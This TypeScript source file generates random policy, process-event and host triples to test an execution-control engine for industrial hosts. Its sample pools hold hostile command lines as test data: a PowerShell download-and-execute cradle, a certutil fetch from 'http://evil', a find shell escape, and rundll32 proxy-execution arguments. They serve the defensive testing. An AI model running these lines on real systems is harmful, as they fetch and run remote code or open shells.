// Deterministic random generator of (policy, event, context) triples for differential testing.
// Small pools of hashes, names, signers, packages, users and hosts make matches frequent; the
// catalogue supplies program names, flags and directories, so it works with any catalogue.
import type {
  Catalogue,
  Exception,
  ExecEvent,
  HostContext,
  Identity,
  InterpreterSpec,
  MaintenanceWindow,
  Match,
  NeverBlock,
  Platform,
  Policy,
  Rule,
  Scope,
  Selector,
} from '@execguard/schema';

export type Rng = () => number;

/** mulberry32: small, fast, good enough for test generation. */
export function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface GeneratedCase {
  readonly policy: Policy;
  readonly event: ExecEvent;
  readonly ctx: { readonly now: number; readonly host: HostContext };
}

// ---- helpers -------------------------------------------------------------------------------

const chance = (rng: Rng, p: number) => rng() < p;
const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));
function pick<T>(rng: Rng, xs: readonly T[]): T {
  if (xs.length === 0) throw new Error('pick from empty list');
  return xs[Math.floor(rng() * xs.length)]!;
}
function pickSome<T>(rng: Rng, xs: readonly T[], min = 1, max = 2): T[] {
  const n = Math.min(xs.length, int(rng, min, max));
  const pool = [...xs];
  const out: T[] = [];
  while (out.length < n && pool.length > 0) out.push(pool.splice(Math.floor(rng() * pool.length), 1)[0]!);
  return out;
}
function randomCase(rng: Rng, s: string): string {
  const r = rng();
  if (r < 0.6) return s;
  if (r < 0.8) return s.toUpperCase();
  return s.charAt(0).toUpperCase() + s.slice(1);
}
const DAY = 86_400_000;
const HOUR = 3_600_000;
const iso = (ms: number) => new Date(ms).toISOString();

// ---- pools ---------------------------------------------------------------------------------

const HASHES = ['a1', 'b2', 'c3', 'd4', 'e5', 'f6'].map((h) => h.repeat(32));
const SIGNERS = [
  { subject: 'CN=Siemens AG, O=Siemens AG, C=DE', product: 'SIMATIC WinCC' },
  {
    subject: 'CN=Microsoft Windows, O=Microsoft Corporation, L=Redmond, S=Washington, C=US',
    product: 'Microsoft Windows Operating System',
  },
  { subject: 'CN=Rockwell Automation Inc, O=Rockwell Automation Inc, C=US', product: 'FactoryTalk View' },
] as const;
const VERSIONS = ['7.5', '8.0.1', '10.0.19041.1', '10.0.19041.1 (WinBuild.160101.0800)', '6.1', 'v2', '1,2,3,4'] as const;
const MIN_VERSIONS = ['1', '7.5', '8', '10.0.19041', '10.0.20000', '8.0.1.0'] as const;
const PACKAGES = [
  { manager: 'dpkg', name: 'bash' },
  { manager: 'dpkg', name: 'python3.11-minimal' },
  { manager: 'rpm', name: 'openssh-server' },
  { manager: 'rpm', name: 'scada-hmi' },
] as const;
const USERS = [
  { name: 'operator', id: '1000', group: 'operators' },
  { name: 'engineer', id: '1001', group: 'engineers' },
  { name: 'root', id: '0', group: 'root' },
  { name: 'SYSTEM', id: 'S-1-5-18', group: 'Administrators' },
] as const;
const GROUPS = ['operators', 'engineers', 'root', 'Administrators', 'plc-programmers'] as const;
const HOSTS: readonly HostContext[] = [
  { id: 'hmi-01', name: 'HMI-01', role: 'hmi', labels: { site: 'north', zone: 'l2' } },
  { id: 'ews-01', name: 'EWS-01', role: 'ews', labels: { site: 'north', zone: 'l3' } },
  { id: 'hist-01', role: 'historian', labels: { site: 'south', zone: 'l3' } },
  { id: 'gw-01', name: 'gateway-1', role: 'gateway', labels: {} },
  { id: 'bare-01' },
];
const WIN_DIRS = [
  'C:/Windows/System32',
  'C:/Windows/SysWOW64',
  'C:/Windows',
  'C:/Program Files/Siemens/WinCC/bin',
  'C:/Users/op/AppData/Local/Temp',
  'C:/Users/op/Downloads',
  'E:',
  'C:/ProgramData/Vendor',
];
const LINUX_DIRS = ['/usr/bin', '/usr/sbin', '/bin', '/opt/scada/bin', '/tmp', '/home/op', '/dev/shm', '/usr/lib/systemd'];
const GENERIC_WIN = ['hmi.exe', 'WinCCExplorer.exe', 'notepad.exe', 'setup.exe', 'updater.exe'];
const GENERIC_LINUX = ['hmi', 'historian', 'ls', 'payload', 'backup.sh'];
const LOADER_NAMES = ['ld-linux-x86-64.so.2', 'ld-linux-aarch64.so.1', 'ld-2.31.so'];
const CODE = ['print(1)', 'id', 'IEX (New-Object Net.WebClient).DownloadString("http://x")', 'SQBFAFgA', 'whoami', 'calc.exe'];
const SCRIPTS_LINUX = ['/opt/scada/scripts/job.py', '/tmp/x.sh', '/home/op/run.py', 'job.py', './x.sh', '../scripts/job.py'];
const SCRIPTS_WIN = [
  'C:/Scripts/backup.ps1',
  'C:\\Users\\op\\Downloads\\run.ps1',
  'C:/Program Files/Siemens/job.py',
  'run.ps1',
  '..\\x.bat',
];
const PROXY_ARGS = [
  'shell32.dll,Control_RunDLL payload.cpl',
  'javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
  '-urlcache -split -f http://evil/a.exe a.exe',
  '-decode in.b64 out.exe',
  '. -exec /bin/sh ;',
  '/ -name core',
  'user32.dll,LockWorkStation',
  '/?',
  '-c id',
  '-hashfile a.exe SHA256',
];
const ARG_REGEXES = ['-urlcache', '\\bhttps?://', '^-c\\b', 'Control_RunDLL', '-enc', 'exec', '\\.ps1$', 'job\\.py', 'SHA256'];
const TECHNIQUES = ['T0853', 'T0807', 'T0871', 'T0863', 'T0894'];
const PARENTS = [
  'C:/Windows/explorer.exe',
  'C:/Windows/System32/services.exe',
  'C:/Program Files/Microsoft Office/WINWORD.EXE',
  'C:/Windows/System32/cmd.exe',
  '/usr/sbin/sshd',
  '/usr/lib/systemd/systemd',
  '/usr/bin/bash',
  '/opt/scada/bin/hmi',
];

// ---- event parts ---------------------------------------------------------------------------

interface Sig {
  code_signature?: { signed?: boolean; trusted?: boolean; status?: string; subject_name?: string };
  pe?: { product?: string; file_version?: string; original_file_name?: string };
  hash?: { sha256: string };
}

function genSignature(rng: Rng, sig: Sig): void {
  if (chance(rng, 0.75)) sig.hash = { sha256: chance(rng, 0.2) ? pick(rng, HASHES).toUpperCase() : pick(rng, HASHES) };
  const r = rng();
  if (r < 0.2) return;
  const signer = pick(rng, SIGNERS);
  const cs: NonNullable<Sig['code_signature']> = {};
  cs.signed = chance(rng, 0.8);
  if (chance(rng, 0.5)) cs.trusted = chance(rng, 0.8);
  if (chance(rng, 0.5)) cs.status = pick(rng, ['valid', 'Valid', 'errorExpired', 'errorUntrusted']);
  cs.subject_name = chance(rng, 0.2) ? ` ${signer.subject.toUpperCase()} ` : signer.subject;
  sig.code_signature = cs;
  sig.pe = { ...(sig.pe ?? {}) };
  if (chance(rng, 0.85)) sig.pe.product = chance(rng, 0.2) ? signer.product.toLowerCase() : signer.product;
  if (chance(rng, 0.8)) sig.pe.file_version = pick(rng, VERSIONS);
}

function genProvenance(rng: Rng, platform: Platform): Record<string, unknown> | undefined {
  if (chance(rng, 0.2)) return undefined;
  const p: Record<string, unknown> = {};
  if (platform === 'linux' && chance(rng, 0.6)) {
    const pkg = pick(rng, PACKAGES);
    p.package = { manager: pkg.manager, name: pkg.name, verified: chance(rng, 0.75) };
  }
  if (chance(rng, 0.85)) p.path_admin_only = chance(rng, 0.6);
  return p;
}

function joinPath(rng: Rng, platform: Platform, dir: string, name: string): string {
  const d = dir.replace(/\/+$/, '');
  const p = `${d}/${name}`;
  return platform === 'windows' && chance(rng, 0.5) ? p.replace(/\//g, '\\') : p;
}

function flip(rng: Rng, spec: InterpreterSpec, flag: string): string {
  return spec.caseInsensitiveFlags && chance(rng, 0.5) ? flag.toLowerCase() : flag;
}

/** Arguments after args[0] for an interpreter, exercising every parsing branch. */
function interpreterArgs(rng: Rng, spec: InterpreterSpec, platform: Platform): string[] {
  const scripts = platform === 'windows' ? SCRIPTS_WIN : SCRIPTS_LINUX;
  const inline = spec.inlineFlags;
  const variant = int(rng, 0, 11);
  const lead: string[] = chance(rng, 0.3) ? [chance(rng, 0.5) ? '-u' : '--verbose'] : [];
  switch (variant) {
    case 0:
      if (inline.length > 0) return [...lead, flip(rng, spec, pick(rng, inline)), pick(rng, CODE)];
      break;
    case 1: {
      const long = inline.filter((f) => f.length >= 4);
      if (spec.flagPrefixes && long.length > 0) {
        const f = pick(rng, long);
        return [...lead, flip(rng, spec, f.slice(0, int(rng, 3, f.length))), pick(rng, CODE)];
      }
      if (inline.length > 0) return [flip(rng, spec, pick(rng, inline)), pick(rng, CODE)];
      break;
    }
    case 2: {
      const short = inline.filter((f) => f.length === 2 && f.startsWith('-'));
      if (short.length > 0) {
        const letter = pick(rng, short).slice(1);
        return [...lead, chance(rng, 0.5) ? `-x${letter}` : `-${letter}e`, pick(rng, CODE)];
      }
      break;
    }
    case 3:
      if (inline.length > 0) return [...lead, `${flip(rng, spec, pick(rng, inline))}${pick(rng, CODE)}`];
      break;
    case 4:
      if ((spec.scriptFlags ?? []).length > 0) {
        const f = pick(rng, spec.scriptFlags ?? []);
        const shown = spec.flagPrefixes && f.length >= 4 && chance(rng, 0.3) ? f.slice(0, 3) : flip(rng, spec, f);
        return chance(rng, 0.1) ? [...lead, shown] : [...lead, shown, pick(rng, scripts), 'arg1'];
      }
      break;
    case 5:
      if ((spec.valueFlags ?? []).length > 0) {
        return [
          ...lead,
          flip(rng, spec, pick(rng, spec.valueFlags ?? [])),
          chance(rng, 0.5) ? 'value' : 'job.py',
          pick(rng, scripts),
        ];
      }
      break;
    case 6:
      if ((spec.stdinFlags ?? []).length > 0) return [...lead, pick(rng, spec.stdinFlags ?? []), 'arg1'];
      break;
    case 7:
      return [...lead, pick(rng, scripts), ...(chance(rng, 0.5) ? ['-c', 'x'] : [])];
    case 8:
      return [];
    case 9:
      return [platform === 'windows' ? '/NoLogo' : '-V'];
    case 10:
      if (platform === 'windows') return ['/NoProfile', pick(rng, scripts)];
      return ['-', 'x'];
    default:
      // an operand before an inline flag (matters for interpreters without a script operand)
      if (inline.length > 0) return ['operand', flip(rng, spec, pick(rng, inline)), pick(rng, CODE)];
  }
  return [pick(rng, scripts)];
}

type ProgramKind = 'interpreter' | 'proxy' | 'system' | 'loader' | 'memfd' | 'generic';

interface ProgramChoice {
  platform: Platform;
  name: string;
  dirs: string[];
  interpreter?: InterpreterSpec;
  kind: ProgramKind;
}

function chooseProgram(rng: Rng, catalogue: Catalogue): ProgramChoice {
  const r = rng();
  const anyPlatform = (): Platform => (chance(rng, 0.5) ? 'windows' : 'linux');
  if (r < 0.36 && catalogue.interpreters.length > 0) {
    const spec = pick(rng, catalogue.interpreters);
    const platform = spec.platform === 'any' ? anyPlatform() : spec.platform;
    return { platform, name: pick(rng, spec.names), dirs: [], interpreter: spec, kind: 'interpreter' };
  }
  if (r < 0.52 && catalogue.proxies.length > 0) {
    const p = pick(rng, catalogue.proxies);
    return { platform: p.platform, name: p.name, dirs: [...(p.directories ?? [])], kind: 'proxy' };
  }
  if (r < 0.64 && catalogue.systemBinaries.length > 0) {
    const s = pick(rng, catalogue.systemBinaries);
    return { platform: s.platform, name: s.name, dirs: [...s.directories], kind: 'system' };
  }
  if (r < 0.7) return { platform: 'linux', name: pick(rng, LOADER_NAMES), dirs: ['/lib64', '/usr/lib64'], kind: 'loader' };
  if (r < 0.74) return { platform: 'linux', name: 'x', dirs: [], kind: 'memfd' };
  const platform = anyPlatform();
  return { platform, name: pick(rng, platform === 'windows' ? GENERIC_WIN : GENERIC_LINUX), dirs: [], kind: 'generic' };
}

function allProgramNames(catalogue: Catalogue, platform: Platform): string[] {
  const names: string[] = [];
  for (const i of catalogue.interpreters) if (i.platform === 'any' || i.platform === platform) names.push(...i.names);
  for (const p of catalogue.proxies) if (p.platform === platform) names.push(p.name);
  for (const s of catalogue.systemBinaries) if (s.platform === platform) names.push(s.name);
  names.push(...(platform === 'windows' ? GENERIC_WIN : GENERIC_LINUX));
  return names;
}

function genEvent(rng: Rng, catalogue: Catalogue, host: HostContext): ExecEvent {
  const prog = chooseProgram(rng, catalogue);
  const { platform } = prog;
  const dirs = [...(platform === 'windows' ? WIN_DIRS : LINUX_DIRS), ...prog.dirs, ...prog.dirs];
  let name = platform === 'windows' ? randomCase(rng, prog.name) : prog.name;
  let original: string | undefined;
  const o = rng();
  if (o < 0.15) {
    // renamed: the basename is something else, the original name is the real program
    original = prog.name;
    name = pick(rng, platform === 'windows' ? GENERIC_WIN : GENERIC_LINUX);
  } else if (o < 0.3) {
    original = pick(rng, allProgramNames(catalogue, platform));
  } else if (o < 0.55) {
    original = randomCase(rng, prog.name) + (chance(rng, 0.3) ? '.MUI' : '');
  }
  let executable: string | undefined;
  if (prog.kind === 'memfd') executable = chance(rng, 0.5) ? '/memfd:x (deleted)' : 'memfd:payload';
  else if (chance(rng, 0.04)) executable = undefined;
  else executable = joinPath(rng, platform, pick(rng, dirs), name);

  const args0 = executable ?? name;
  let rest: string[];
  if (prog.interpreter !== undefined) rest = interpreterArgs(rng, prog.interpreter, platform);
  else if (prog.kind === 'proxy' || chance(rng, 0.2)) rest = chance(rng, 0.8) ? pick(rng, PROXY_ARGS).split(' ') : ['--help'];
  else rest = pick(rng, [[], ['-v'], ['--config', '/etc/app.conf'], ['-c', 'id']]);

  const sig: Sig = {};
  if (original !== undefined) sig.pe = { original_file_name: original };
  genSignature(rng, sig);

  const process: Record<string, unknown> = { pid: int(rng, 100, 60000), name, ...sig };
  if (executable !== undefined) process.executable = executable;
  const quoted = args0.includes(' ') ? `"${args0}"` : args0;
  if (chance(rng, 0.85)) {
    process.args = [args0, ...rest];
    if (chance(rng, 0.5)) process.command_line = [quoted, ...rest].join(' ');
  } else if (chance(rng, 0.8)) {
    process.command_line = [quoted, ...rest].join(' ');
  }
  if (chance(rng, 0.7)) process.working_directory = platform === 'windows' ? 'C:\\Users\\op' : '/home/op';

  if (chance(rng, 0.85)) {
    const pexe = pick(rng, PARENTS);
    const parent: Record<string, unknown> = {
      pid: int(rng, 1, 99),
      executable: pexe,
      name: pexe.slice(pexe.lastIndexOf('/') + 1),
    };
    const psig: Sig = {};
    genSignature(rng, psig);
    Object.assign(parent, psig);
    process.parent = parent;
  }

  const eg: Record<string, unknown> = {};
  const pp = genProvenance(rng, platform);
  if (pp) eg.process = pp;
  const parentProv = genProvenance(rng, platform);
  if (parentProv && process.parent !== undefined) eg.parent = parentProv;
  if (chance(rng, 0.4)) {
    eg.ancestors = Array.from({ length: int(rng, 1, 2) }, () => {
      const a = pick(rng, PARENTS);
      const asig: Sig = {};
      genSignature(rng, asig);
      return { executable: a, name: a.slice(a.lastIndexOf('/') + 1), ...asig };
    });
  }
  if (chance(rng, 0.75)) eg.stdin = pick(rng, ['tty', 'tty', 'pipe', 'file', 'null', 'socket', 'unknown']);
  if (chance(rng, 0.04)) eg.inline_code = true;
  if (chance(rng, 0.03)) eg.loader_invocation = true;
  if (chance(rng, 0.02)) eg.memfd = true;
  if (chance(rng, 0.5)) eg.groups = pickSome(rng, GROUPS, 1, 2);

  const event: Record<string, unknown> = { '@timestamp': '2026-06-01T00:00:00Z', process };
  const evHost: Record<string, unknown> = { id: host.id };
  if (host.name !== undefined) evHost.name = host.name;
  if (chance(rng, 0.7))
    evHost.os = {
      family: platform === 'windows' ? (chance(rng, 0.8) ? 'windows' : 'Windows') : pick(rng, ['debian', 'redhat', 'linux']),
    };
  event.host = evHost;
  if (chance(rng, 0.8)) {
    const u = pick(rng, USERS);
    event.user = chance(rng, 0.7) ? { name: u.name, id: u.id, group: { name: u.group } } : { name: u.name };
  }
  if (chance(rng, prog.interpreter !== undefined ? 0.5 : 0.15)) {
    const scripts = platform === 'windows' ? SCRIPTS_WIN : SCRIPTS_LINUX;
    const abs = scripts.filter((s) => s.startsWith('/') || /^[A-Za-z]:/.test(s));
    const file: Record<string, unknown> = { path: pick(rng, abs) };
    const fsig: Sig = {};
    genSignature(rng, fsig);
    Object.assign(file, fsig);
    event.file = file;
    const sp = genProvenance(rng, platform);
    if (sp) eg.script = sp;
  }
  if (Object.keys(eg).length > 0) event.execguard = eg;
  return event as unknown as ExecEvent;
}

// ---- policy parts --------------------------------------------------------------------------

function genSelector(rng: Rng, host: HostContext, nonEmpty: boolean): Selector {
  const target = chance(rng, 0.65) ? host : pick(rng, HOSTS);
  const sel: { hosts?: string[]; roles?: string[]; labels?: Record<string, string> } = {};
  const r = rng();
  if (r < 0.4) sel.hosts = [chance(rng, 0.7) || target.name === undefined ? target.id : target.name];
  else if (r < 0.65) sel.roles = [target.role ?? 'plc'];
  else if (r < 0.85) {
    const entries = Object.entries(target.labels ?? {});
    sel.labels = entries.length > 0 ? Object.fromEntries(pickSome(rng, entries, 1, 2)) : { site: 'east' };
  } else if (!nonEmpty) {
    return chance(rng, 0.5) ? {} : { labels: {} };
  } else {
    sel.hosts = ['hmi-01', 'ews-01'];
  }
  if (chance(rng, 0.15)) sel.roles = [...(sel.roles ?? []), pick(rng, ['hmi', 'ews', 'historian'])];
  return sel;
}

interface Target {
  path?: string;
  name?: string;
  sha256?: string;
  signer?: { subject?: string; product?: string; original?: string };
  pkg?: { manager: string; name: string };
}

function targetOf(sub: Record<string, unknown> | undefined, prov: Record<string, unknown> | undefined): Target | undefined {
  if (sub === undefined) return undefined;
  const t: Target = {};
  const exe = (sub.executable ?? sub.path) as string | undefined;
  if (exe !== undefined) {
    t.path = exe.replace(/\\/g, '/');
    t.name = t.path.slice(t.path.lastIndexOf('/') + 1);
  } else if (typeof sub.name === 'string') t.name = sub.name;
  const hash = sub.hash as { sha256?: string } | undefined;
  if (hash?.sha256 !== undefined) t.sha256 = hash.sha256;
  const cs = sub.code_signature as { subject_name?: string } | undefined;
  const pe = sub.pe as { product?: string; original_file_name?: string } | undefined;
  t.signer = {};
  if (cs?.subject_name !== undefined) t.signer.subject = cs.subject_name.trim();
  if (pe?.product !== undefined) t.signer.product = pe.product;
  if (pe?.original_file_name !== undefined) t.signer.original = pe.original_file_name;
  const pkg = prov?.package as { manager: string; name: string } | undefined;
  if (pkg !== undefined) t.pkg = pkg;
  return t;
}

const ABSOLUTE = /^(\/|[a-zA-Z]:[\\/]|\\\\)/;

function pathGlobs(rng: Rng, t: Target | undefined): string[] {
  const base =
    t?.path !== undefined && ABSOLUTE.test(t.path)
      ? t.path
      : pick(rng, [...PARENTS, '/usr/bin/python3', 'C:/Windows/System32/cmd.exe']);
  const dir = base.slice(0, base.lastIndexOf('/'));
  const first = base.split('/').slice(0, 2).join('/');
  const variants = [
    base,
    `${dir}/*`,
    `${first}/**`,
    `${first}/**/${base.slice(base.lastIndexOf('/') + 1)}`,
    base.replace(/.$/, '?'),
    base.toUpperCase(),
    base.replace(/\//g, '\\'),
    '/usr/**',
    'C:/Program Files/**',
  ].filter((g) => ABSOLUTE.test(g) && !/^(\/\*\*|[a-zA-Z]:[\\/]\*\*)$/.test(g));
  return pickSome(rng, variants, 1, 2);
}

function genIdentity(rng: Rng, t: Target | undefined, allow: boolean, catalogueNames: readonly string[]): Identity {
  const id: {
    sha256?: string[];
    signer?: { subject: string; product: string; minVersion?: string; originalFileName?: string };
    package?: { manager: 'dpkg' | 'rpm' | 'any'; names?: string[] };
    path?: string[];
    name?: string[];
  } = {};
  const biased = () => t !== undefined && chance(rng, allow ? 0.85 : 0.65);
  const keys = pickSome(rng, ['sha256', 'signer', 'package', 'path', 'name', 'sha256', 'signer'] as const, 1, 2);
  for (const k of keys) {
    if (k === 'sha256') id.sha256 = biased() && t?.sha256 ? [t.sha256] : pickSome(rng, HASHES, 1, 2);
    if (k === 'signer' || (k === 'name' && allow)) {
      const s = pick(rng, SIGNERS);
      const subject = biased() && t?.signer?.subject ? t.signer.subject : s.subject;
      const product = biased() && t?.signer?.product ? t.signer.product : s.product;
      id.signer = { subject, product };
      if (chance(rng, 0.4)) id.signer.minVersion = pick(rng, MIN_VERSIONS);
      if (chance(rng, 0.2)) {
        id.signer.originalFileName =
          t?.signer?.original !== undefined && chance(rng, 0.7) ? t.signer.original : pick(rng, catalogueNames);
      }
    }
    if (k === 'package') {
      const p = biased() && t?.pkg ? t.pkg : pick(rng, PACKAGES);
      id.package = { manager: chance(rng, 0.25) ? 'any' : (p.manager as 'dpkg' | 'rpm') };
      if (chance(rng, 0.6)) id.package.names = [p.name];
    }
    if (k === 'path') id.path = pathGlobs(rng, biased() ? t : undefined);
    if (k === 'name') id.name = [biased() && t?.name ? randomCase(rng, t.name) : pick(rng, catalogueNames)];
  }
  return id as Identity;
}

function genMatch(rng: Rng, event: ExecEvent, allow: boolean, forException: boolean, catalogueNames: readonly string[]): Match {
  const proc = event.process as unknown as Record<string, unknown>;
  const eg = (event.execguard ?? {}) as Record<string, unknown>;
  const progT = targetOf(proc, eg.process as Record<string, unknown> | undefined);
  const scriptT = targetOf(event.file as Record<string, unknown> | undefined, eg.script as Record<string, unknown> | undefined);
  const parentT = targetOf(proc.parent as Record<string, unknown> | undefined, eg.parent as Record<string, unknown> | undefined);
  const m: Record<string, unknown> = {};
  if (allow && !forException && chance(rng, 0.25)) {
    // a content-only approval: the script, nothing about the program
    m.script = genIdentity(rng, scriptT, allow, catalogueNames);
    return m as Match;
  }
  const p = allow ? 0.85 : 0.3;
  if (forException || chance(rng, p)) m.program = genIdentity(rng, progT, allow, catalogueNames);
  if (chance(rng, allow ? 0.35 : 0.12)) m.script = genIdentity(rng, scriptT, allow, catalogueNames);
  if (allow && m.program === undefined && m.script === undefined) m.program = genIdentity(rng, progT, allow, catalogueNames);
  const ic = rng();
  if (ic < (allow ? 0.25 : 0.12)) m.inlineCode = true;
  else if (ic < (allow ? 0.3 : 0.17)) m.inlineCode = false;
  const sc = rng();
  if (sc < (allow ? 0.18 : 0.08)) m.stdinScript = true;
  else if (sc < (allow ? 0.22 : 0.12)) m.stdinScript = false;
  if (allow && (m.inlineCode === true || m.stdinScript === true) && m.program === undefined) {
    m.program = genIdentity(rng, progT, allow, catalogueNames);
  }
  if (chance(rng, 0.12)) {
    const a: Record<string, unknown> = {};
    const r = rng();
    if (r < 0.5) a.any = pickSome(rng, ARG_REGEXES, 1, 2);
    else if (r < 0.75) a.all = pickSome(rng, ARG_REGEXES, 1, 2);
    else a.none = pickSome(rng, ARG_REGEXES, 1, 2);
    if (chance(rng, 0.2)) a.caseSensitive = chance(rng, 0.5);
    m.args = a;
  }
  if (chance(rng, 0.1)) m.parent = genIdentity(rng, parentT, allow, catalogueNames);
  if (chance(rng, 0.07)) m.ancestor = genIdentity(rng, chance(rng, 0.5) ? parentT : undefined, allow, catalogueNames);
  if (chance(rng, 0.1)) {
    const u = pick(rng, USERS);
    const r = rng();
    m.user = r < 0.4 ? { names: [u.name] } : r < 0.6 ? { ids: [u.id] } : { groups: [pick(rng, GROUPS)] };
  }
  const factP = allow ? 0.06 : 0.22;
  if (chance(rng, factP)) m.proxyUse = chance(rng, allow ? 0.3 : 0.8);
  if (chance(rng, factP)) m.masquerade = chance(rng, allow ? 0.3 : 0.8);
  if (chance(rng, factP)) m.userWritableLocation = chance(rng, allow ? 0.3 : 0.8);
  if (Object.keys(m).length === 0) m.masquerade = true;
  return m as Match;
}

function timeSpan(rng: Rng, now: number): { from: number; to: number } {
  const r = rng();
  if (r < 0.55) return { from: now - int(rng, 1, 48) * HOUR, to: now + int(rng, 1, 48) * HOUR }; // active
  if (r < 0.7) return { from: now - 3 * DAY, to: now - int(rng, 1, 24) * HOUR }; // past
  if (r < 0.85) return { from: now + int(rng, 1, 24) * HOUR, to: now + 3 * DAY }; // future
  if (r < 0.93) return { from: now, to: now + HOUR }; // starts exactly now (active)
  return { from: now - HOUR, to: now }; // ends exactly now (inactive)
}

function genPolicy(rng: Rng, event: ExecEvent, host: HostContext, now: number, catalogue: Catalogue): Policy {
  const names = [...new Set([...allProgramNames(catalogue, 'windows'), ...allProgramNames(catalogue, 'linux')])];
  const modes = ['learn', 'audit', 'enforce', 'enforce', 'enforce'] as const;
  const scopes: Scope[] = [];
  for (let i = 0, n = int(rng, 0, 2); i < n; i++) {
    const s: Scope = { id: `scope-${i + 1}`, selector: genSelector(rng, host, false), mode: pick(rng, modes) };
    if (chance(rng, 0.5)) s.failMode = chance(rng, 0.5) ? 'open' : 'closed';
    scopes.push(s);
  }
  const rules: Rule[] = [];
  for (let i = 0, n = int(rng, 0, 6); i < n; i++) {
    const allow = chance(rng, 0.55);
    const r: Rule = {
      id: `${allow ? 'allow' : 'deny'}-${i + 1}`,
      action: allow ? 'allow' : 'deny',
      match: genMatch(rng, event, allow, false, names),
    };
    if (!allow && chance(rng, 0.5)) r.techniques = pickSome(rng, TECHNIQUES, 1, 2);
    if (chance(rng, 0.15)) r.appliesTo = genSelector(rng, host, false);
    rules.push(r);
  }
  const exceptions: Exception[] = [];
  for (let i = 0, n = chance(rng, 0.3) ? int(rng, 1, 2) : 0; i < n; i++) {
    const span = timeSpan(rng, now);
    const x: Exception = {
      id: `exc-${i + 1}`,
      scope: genSelector(rng, host, true),
      match: genMatch(rng, event, true, true, names),
      requester: 'alice',
      approver: chance(rng, 0.5) ? 'bob' : 'Carol',
      ticket: `CHG-${int(rng, 100, 999)}`,
      reason: 'vendor maintenance',
      expires: iso(span.to),
    };
    if (chance(rng, 0.7)) x.notBefore = iso(span.from);
    exceptions.push(x);
  }
  const denyIds = rules.filter((r) => r.action === 'deny').map((r) => r.id);
  const windows: MaintenanceWindow[] = [];
  for (let i = 0, n = chance(rng, 0.45) ? int(rng, 1, 2) : 0; i < n; i++) {
    const span = timeSpan(rng, now);
    const relax: MaintenanceWindow['relax'] = {};
    if (chance(rng, 0.45)) relax.defaultDeny = chance(rng, 0.9);
    if (chance(rng, 0.45)) relax.enforcement = chance(rng, 0.9);
    if (denyIds.length > 0 && chance(rng, 0.6)) relax.rules = pickSome(rng, denyIds, 1, 2);
    if (Object.keys(relax).length === 0) relax.enforcement = true;
    windows.push({
      id: `win-${i + 1}`,
      ticket: `MW-${int(rng, 100, 999)}`,
      scope: genSelector(rng, host, true),
      start: iso(span.from),
      end: iso(span.to),
      relax,
    });
  }
  const neverBlock: NeverBlock[] = [];
  const proc = event.process as unknown as Record<string, unknown>;
  const progT = targetOf(
    proc,
    (event.execguard as Record<string, unknown> | undefined)?.process as Record<string, unknown> | undefined,
  );
  for (let i = 0, n = chance(rng, 0.3) ? int(rng, 1, 2) : 0; i < n; i++) {
    const nb: NeverBlock = {
      id: `nb-${i + 1}`,
      program: genIdentity(rng, progT, true, names),
      reason: 'critical control process',
    };
    if (chance(rng, 0.2)) nb.appliesTo = genSelector(rng, host, false);
    neverBlock.push(nb);
  }

  const policy: Record<string, unknown> = {
    apiVersion: 'execguard.io/v1',
    kind: 'Policy',
    metadata: { name: 'generated', version: int(rng, 1, 9) },
    defaults: { mode: pick(rng, modes), failMode: chance(rng, 0.5) ? 'open' : 'closed' },
  };
  if (scopes.length > 0 || chance(rng, 0.2)) policy.scopes = scopes;
  if (chance(rng, 0.15))
    policy.nonOverridable = chance(rng, 0.5) ? { loaderInvocation: true } : { loaderInvocation: true, memfdExec: true };
  if (neverBlock.length > 0) policy.neverBlock = neverBlock;
  policy.rules = rules;
  if (exceptions.length > 0) policy.exceptions = exceptions;
  if (windows.length > 0) policy.maintenanceWindows = windows;
  return policy as unknown as Policy;
}

// ---- entry points ----------------------------------------------------------------------------

const BASE_NOW = Date.parse('2026-06-01T12:00:00Z');

export function generateCase(rng: Rng, catalogue: Catalogue): GeneratedCase {
  const host = pick(rng, HOSTS);
  const now = BASE_NOW + int(rng, -30, 30) * DAY + int(rng, 0, 23) * HOUR;
  const event = genEvent(rng, catalogue, host);
  const policy = genPolicy(rng, event, host, now, catalogue);
  return { policy, event, ctx: { now, host } };
}

export function generateCases(seed: number, n: number, catalogue: Catalogue): GeneratedCase[] {
  const rng = mulberry32(seed);
  const out: GeneratedCase[] = [];
  for (let i = 0; i < n; i++) out.push(generateCase(rng, catalogue));
  return out;
}
